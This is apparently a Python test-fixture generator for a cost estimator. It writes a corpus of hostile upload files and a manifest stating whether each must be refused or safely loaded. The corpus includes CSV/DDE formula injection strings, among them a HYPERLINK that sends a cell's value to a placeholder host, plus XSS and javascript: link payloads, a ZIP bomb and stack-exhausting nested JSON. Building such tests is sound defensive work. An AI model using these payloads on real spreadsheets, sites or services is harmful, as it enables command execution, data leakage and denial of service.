"""Write the hostile-input corpus (issue 12) and its MANIFEST.csv: ``python tests/data/hostile/make_corpus.py``.

The files are committed; this script says how each was made, because several cannot be typed by hand
(bytes that are not UTF-8, a ZIP bomb, a name holding a carriage return). The one file over the upload
size cap is not committed (it would be a megabyte of nothing): tests/test_hostile.py builds it from
:data:`OVER_CAP` on the fly.

MANIFEST.csv, one row per file:

- ``file``: the file name in this folder
- ``kind``: what it pretends to be, so which entry points must give ``message``: ``scenario`` (scenario
  JSON or tidy CSV: the Scenarios page uploader, ``estimate``, ``compare``), ``intervals`` (the Contact
  centre page's interval upload), ``price_book`` (``load_price_book`` and ``--price-book``)
- ``outcome``: ``refused`` (a one-line message holding ``message``), ``loads`` (accepted: a name is text,
  kept exactly, and defused in every export), ``note`` (accepted with a message on the page, e.g. nothing
  to staff)
- ``attack``: what the file tries
- ``message``: the fragment the one-line message must hold (written by hand from the rule the file
  breaks, not copied from the code's output)

Every file also goes through every other entry point, where it must be refused (or loaded) in one line,
without a traceback and without changing anything stored.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
# 200 Monte Carlo draws rather than 10,000: the files that load are estimated by every entry point, quickly.
GOOD = {"function": "Customer service", "workload": {"fte": 10}, "uncertainty": {"draws": 200}}
TIDY_HEAD = "scenario,function,option,component,period,low,mid,high,currency,unit\r\n"
INTERVAL_HEAD = "interval_start,queue,contacts,aht_seconds\n"
BOOK_HEAD = "function,model,basis,low,high,currency,unit,source,as_of,notes\n"
OVER_CAP = ("over_cap.json", "scenario", "refused", "a valid scenario padded past the 1 MiB upload cap",
            "over the 1,048,576-byte limit")


def scenario(**changes: object) -> str:
    return json.dumps({**GOOD, **changes}, indent=1, ensure_ascii=False)


def tidy(*rows: tuple[str, ...]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(row)
    return TIDY_HEAD + out.getvalue()


def tidy_input(name: str, component: str, mid: str, unit: str = "") -> tuple[str, ...]:
    return (name, "Customer service", "", component, "input", mid, mid, mid, "", unit)


def tidy_good(name: str = "Tidy", **override: str) -> list[tuple[str, ...]]:
    rows = {"function": ("", '"Customer service"'), "workload.fte": ("10", ""), "uncertainty.draws": ("200", "")}
    rows.update({k: (v, "") for k, v in override.items()})
    return [tidy_input(name, c, m, u) for c, (m, u) in rows.items()]


def intervals(*rows: str) -> str:
    return INTERVAL_HEAD + "".join(r + "\n" for r in rows)


def book(*rows: str) -> str:
    return BOOK_HEAD + "".join(r + "\n" for r in rows)


def zip_bomb() -> bytes:
    # 64 MiB of zeros deflates about 1,000 to 1: a 64 KiB file whose one member inflates to 64 MiB.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with z.open("xl/worksheets/sheet1.xml", "w") as member:
            block = b"\0" * (1 << 20)
            for _ in range(64):
                member.write(block)
    return buffer.getvalue()


NAME = "Customer service"
CORPUS: list[tuple[str, str, str, str, str, str | bytes]] = [
    # --- scenario JSON: malformed and wrong types ---------------------------------------------------------
    ("malformed.json", "scenario", "refused", "JSON cut off before its closing brace",
     "scenario: is not valid JSON", '{"function": "Customer service", "workload": {"fte": 10}'),
    ("top_level_list.json", "scenario", "refused", "a JSON list where an object belongs",
     "scenario: must be a JSON object", json.dumps([GOOD])),
    ("wrong_type_number.json", "scenario", "refused", "text where a number belongs",
     "workload.fte: must be a number from 0 to 100,000, got 'ten'", scenario(workload={"fte": "ten"})),
    ("wrong_type_section.json", "scenario", "refused", "a list where a section of named numbers belongs",
     "in_house: must be an object of named numbers, got list", scenario(in_house=[0.3])),
    ("wrong_type_choice.json", "scenario", "refused", "a list where one of a set of words belongs",
     "vendor_terms.escalation_index: must be one of home_cpi, delivery_wages",
     scenario(vendor_terms={"escalation_index": ["home_cpi"]})),
    ("wrong_type_text.json", "scenario", "refused", "an object where a quote's source text belongs",
     "bpo.price.source: must be text", scenario(bpo={"low": 20, "high": 30, "source": {"a": 1}})),
    ("wrong_type_boolean.json", "scenario", "refused", "the text 'yes' where true or false belongs",
     "people.staff_transfer: must be true or false, got 'yes'", scenario(people={"staff_transfer": "yes"})),
    # --- unknown fields and versions ---------------------------------------------------------------------
    ("unknown_field.json", "scenario", "refused", "a field the estimator does not know",
     "scenario.colour: is not a known field", scenario(colour="red")),
    ("unknown_version.json", "scenario", "refused", "a format version from the future",
     "format_version: 99 is newer than this estimator reads", scenario(format_version=99)),
    ("version_as_text.json", "scenario", "refused", "the format version as text",
     "format_version: must be a whole number from 1 to", scenario(format_version="2")),
    ("unknown_function.json", "scenario", "refused", "work the price book does not name",
     "function: 'Alchemy' is not in the price book", scenario(function="Alchemy")),
    # --- huge numbers, NaN and infinity ------------------------------------------------------------------
    ("huge_float.json", "scenario", "refused", "the largest double as a headcount",
     "workload.fte: must be from 0 to 100,000, got 1e+308", scenario(workload={"fte": 1e308})),
    ("huge_integer.json", "scenario", "refused", "a 400-digit whole number, too big for a float",
     "workload.fte: must be from 0 to 100,000, got a 401-digit number",
     '{"function": "Customer service", "workload": {"fte": 1' + "0" * 400 + "}}"),
    ("huge_integer_5000_digits.json", "scenario", "refused",
     "a 5,000-digit whole number, past Python's limit on converting digits to an int",
     "is not valid JSON", '{"function": "Customer service", "workload": {"fte": 1' + "0" * 5000 + "}}"),
    ("overflow_float.json", "scenario", "refused", "1e999, which reads as infinity",
     "workload.fte: must be from 0 to 100,000, got inf", '{"function": "Customer service", "workload": {"fte": 1e999}}'),
    ("nan.json", "scenario", "refused", "NaN (JavaScript's not-a-number, which Python's json reads) as a headcount",
     "workload.fte: must be from 0 to 100,000, got nan", '{"function": "Customer service", "workload": {"fte": NaN}}'),
    ("infinity.json", "scenario", "refused", "Infinity as the top of a vendor's price",
     "bpo.price.high: must be from 0 to 1,000,000, got inf",
     '{"function": "Customer service", "workload": {"fte": 10}, "bpo": {"low": 20, "high": Infinity}}'),
    ("negative_workload.json", "scenario", "refused", "a negative headcount",
     "workload.fte: must be from 0 to 100,000, got -10", scenario(workload={"fte": -10})),
    ("negative_price.json", "scenario", "refused", "a negative vendor price",
     "bpo.price.low: must be from 0 to 1,000,000, got -5", scenario(bpo={"low": -5, "high": 30})),
    ("zero_workload.json", "scenario", "loads",
     "no work at all: a real answer (the page allows 0 hours), every cost finite and none negative", "",
     scenario(workload={"hours_per_month": 0})),
    # --- names --------------------------------------------------------------------------------------------
    ("long_name.json", "scenario", "refused", "a 10,000-character name: the message must stay one short line",
     "name: must be text of 1 to 200 characters", scenario(name="A" * 10_000)),
    ("long_function.json", "scenario", "refused", "a 10,000-character function: the message must stay short",
     "is not in the price book", scenario(function="F" * 10_000)),
    ("formula_equals.json", "scenario", "loads", "a name a spreadsheet would run: =HYPERLINK", "",
     scenario(name='=HYPERLINK("http://example.invalid/?x="&A1,"Click")')),
    ("formula_plus.json", "scenario", "loads", "a name starting with + (DDE payload)", "",
     scenario(name="+cmd|' /C calc'!A0")),
    ("formula_minus.json", "scenario", "loads", "a name starting with -", "", scenario(name="-2+3+cmd|' /C calc'!A0")),
    ("formula_at.json", "scenario", "loads", "a name starting with @", "", scenario(name="@SUM(1+1)*cmd|' /C calc'!A0")),
    ("formula_tab.json", "scenario", "loads", "a name starting with a tab", "", scenario(name="\t=1+1")),
    ("formula_cr.json", "scenario", "loads", "a name starting with a carriage return", "", scenario(name="\r=1+1")),
    ("html_name.json", "scenario", "loads", "HTML in the name: must show as text", "",
     scenario(name="<img src=x onerror=alert(1)>")),
    ("script_name.json", "scenario", "loads", "a script tag in the name: must show as text", "",
     scenario(name="<script>alert('name')</script>")),
    ("markdown_name.json", "scenario", "loads", "markdown in the name: a link and bold must show as typed", "",
     scenario(name="[click me](javascript:alert(1)) **bold**")),
    # --- structure ------------------------------------------------------------------------------------------
    ("deep_nesting.json", "scenario", "refused", "10,000 nested lists: Python's json runs out of stack",
     "scenario: is nested too deeply", '{"function": "Customer service", "workload": ' + "[" * 10_000
     + "]" * 10_000 + "}"),
    ("deep_nesting_section.json", "scenario", "refused", "a section nested 500 objects deep",
     "scenario: is nested too deeply", '{"function": "Customer service", "workload": {"fte": 10}, "in_house": '
     + '{"a": ' * 500 + "1" + "}" * 500 + "}"),
    ("not_utf8.json", "scenario", "refused", "Latin-1 bytes, not UTF-8", "is not UTF-8 text",
     scenario(name="Caf\u00e9 r\u00e9sum\u00e9").encode("latin-1")),
    ("utf16.json", "scenario", "refused", "UTF-16 with a byte-order mark", "is not UTF-8 text",
     scenario().encode("utf-16")),
    ("empty.json", "scenario", "refused", "nothing at all", "is empty", ""),
    ("zip_bomb.xlsx", "scenario", "refused", "a ZIP bomb renamed .xlsx: 64 KiB that inflate to 64 MiB",
     "must be a .json scenario or a .csv tidy table", zip_bomb()),
    # --- tidy CSV (the scenario uploader's other kind) ------------------------------------------------------
    ("tidy_malformed.csv", "scenario", "refused", "a quote never closed", "tidy CSV: is not a well-formed CSV",
     TIDY_HEAD + 'Tidy,"Customer service,,workload.fte,input,10,10,10,,\r\n'),
    ("tidy_wrong_type.csv", "scenario", "refused", "text where a number belongs",
     "tidy CSV input workload.fte: mid must be a number", tidy(*tidy_good(**{"workload.fte": "ten"}))),
    ("tidy_nan.csv", "scenario", "refused", "nan as a number", "tidy CSV input workload.fte: mid must be a number",
     tidy(*tidy_good(**{"workload.fte": "nan"}))),
    ("tidy_infinity.csv", "scenario", "refused", "inf as a number", "tidy CSV input workload.fte: mid must be a number",
     tidy(*tidy_good(**{"workload.fte": "inf"}))),
    ("tidy_unknown_field.csv", "scenario", "refused", "a field the estimator does not know",
     "in_house.colour: is not a known field", tidy(*tidy_good(**{"in_house.colour": "3"}))),
    ("tidy_deep_path.csv", "scenario", "refused", "a field path 3,000 levels deep",
     "is nested too deeply", tidy(*tidy_good(**{".".join(["x"] * 3_000): "1"}))),
    ("tidy_formula_name.csv", "scenario", "loads", "formula names written by another tool, not guarded", "",
     tidy(*tidy_good("=1+1"))),
    ("tidy_not_utf8.csv", "scenario", "refused", "Latin-1 bytes", "is not UTF-8 text",
     tidy(*tidy_good("Caf\u00e9")).encode("latin-1")),
    # --- interval files (Contact centre page) ---------------------------------------------------------------
    ("intervals_negative.csv", "intervals", "refused", "a negative contact count",
     "row 2, column 'contacts': -3 is negative", intervals("2026-11-23 08:00,Voice,-3,180")),
    ("intervals_nan.csv", "intervals", "refused", "nan contacts", "row 2, column 'contacts': 'nan' is not a finite number",
     intervals("2026-11-23 08:00,Voice,nan,180")),
    ("intervals_huge.csv", "intervals", "refused", "1e300 contacts in half an hour",
     "traffic: contacts × handle time must keep from 0 to", intervals("2026-11-23 08:00,Voice,1e300,180")),
    ("intervals_zero.csv", "intervals", "note", "no contacts at all", "No contacts to staff",
     intervals("2026-11-23 08:00,Voice,0,180", "2026-11-23 08:30,Voice,0,180")),
    ("intervals_malformed.csv", "intervals", "refused", "not an interval file: no header it knows",
     "missing column(s) interval_start, contacts", "when,how many\nmonday,lots\n"),
    ("intervals_names.csv", "intervals", "loads", "queue names with a formula, HTML and markdown", "",
     intervals(*(f'2026-11-23 08:00,"{q}",10,180' for q in ("=1+1", "<img src=x onerror=alert(1)>", "**Chat**")))),
    ("intervals_same_key.csv", "intervals", "loads", "two queue names the page would key alike ('A-B', 'A B')", "",
     intervals("2026-11-23 08:00,A-B,10,180", "2026-11-23 08:00,A B,10,180")),
    ("intervals_long_queue.csv", "intervals", "refused", "a 10,000-character queue name",
     "queue: must be 1 to 200 characters", intervals(f"2026-11-23 08:00,{'Q' * 10_000},10,180")),
    ("intervals_many_queues.csv", "intervals", "refused", "1,000 queues: 2,000 widgets on the page",
     "more than 50 queues", intervals(*(f"2026-11-23 08:00,q{i},1,180" for i in range(1_000)))),
    ("intervals_not_utf8.csv", "intervals", "refused", "Latin-1 bytes", "is not a UTF-8 text file",
     intervals("2026-11-23 08:00,Caf\u00e9,10,180").encode("latin-1")),
    # --- price books ----------------------------------------------------------------------------------------
    ("price_book_missing_columns.csv", "price_book", "refused", "a price book without its columns",
     "line 1: missing column(s) basis", "function,model\nCustomer service,BPO\n"),
    ("price_book_nan.csv", "price_book", "refused", "nan as a price", "column 'low': 'nan' is not a finite number",
     book(f"{NAME},BPO,per_hour,nan,30,USD,productive hour,quote,2026,")),
    ("price_book_huge.csv", "price_book", "refused", "1e400 as a price (infinity)",
     "column 'high': '1e400' is not a finite number", book(f"{NAME},BPO,per_hour,20,1e400,USD,productive hour,quote,2026,")),
    ("price_book_negative.csv", "price_book", "refused", "a negative price", "column 'low': -20 is negative",
     book(f"{NAME},BPO,per_hour,-20,30,USD,productive hour,quote,2026,")),
    ("price_book_long_cell.csv", "price_book", "refused", "a 10,000-character model: the message must stay short",
     "column 'model':", book(f"{NAME},{'B' * 10_000},per_hour,20,30,USD,productive hour,quote,2026,")),
    ("price_book_formula.csv", "price_book", "loads", "function and source text a spreadsheet would run", "",
     book('"=HYPERLINK(""http://example.invalid"",""x"")",BPO,per_hour,20,30,USD,productive hour,"@SUM(1)",2026,"-1"')),
    ("price_book_not_utf8.csv", "price_book", "refused", "Latin-1 bytes", "is not UTF-8 text",
     book(f"{NAME},BPO,per_hour,20,30,USD,productive hour,Caf\u00e9,2026,").encode("latin-1")),
    # --- where the work is done (issue 8) ---------------------------------------------------------------------
    ("price_book_location_long.csv", "price_book", "refused",
     "a 10,000-character location holding HTML: the message must stay short", "column 'location':",
     BOOK_HEAD.replace("\n", ",location\n")
     + f"{NAME},BPO,per_hour,20,30,USD,productive hour,quote,2026,,<b>{'x' * 10_000}</b>\n"),
    ("location_not_a_word.json", "scenario", "refused", "a list where a price's location belongs",
     "bpo.location: must be one of", scenario(bpo={"location": ["offshore"]})),
]


def main() -> None:
    for old in HERE.iterdir():
        if old.name not in ("make_corpus.py", "MANIFEST.csv") and old.is_file():
            old.unlink()
    with (HERE / "MANIFEST.csv").open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(("file", "kind", "outcome", "attack", "message"))
        for name, kind, outcome, attack, message, content in CORPUS:
            data = content if isinstance(content, bytes) else content.encode("utf-8")
            (HERE / name).write_bytes(data)
            writer.writerow((name, kind, outcome, attack, message))
        writer.writerow(OVER_CAP)


if __name__ == "__main__":
    main()
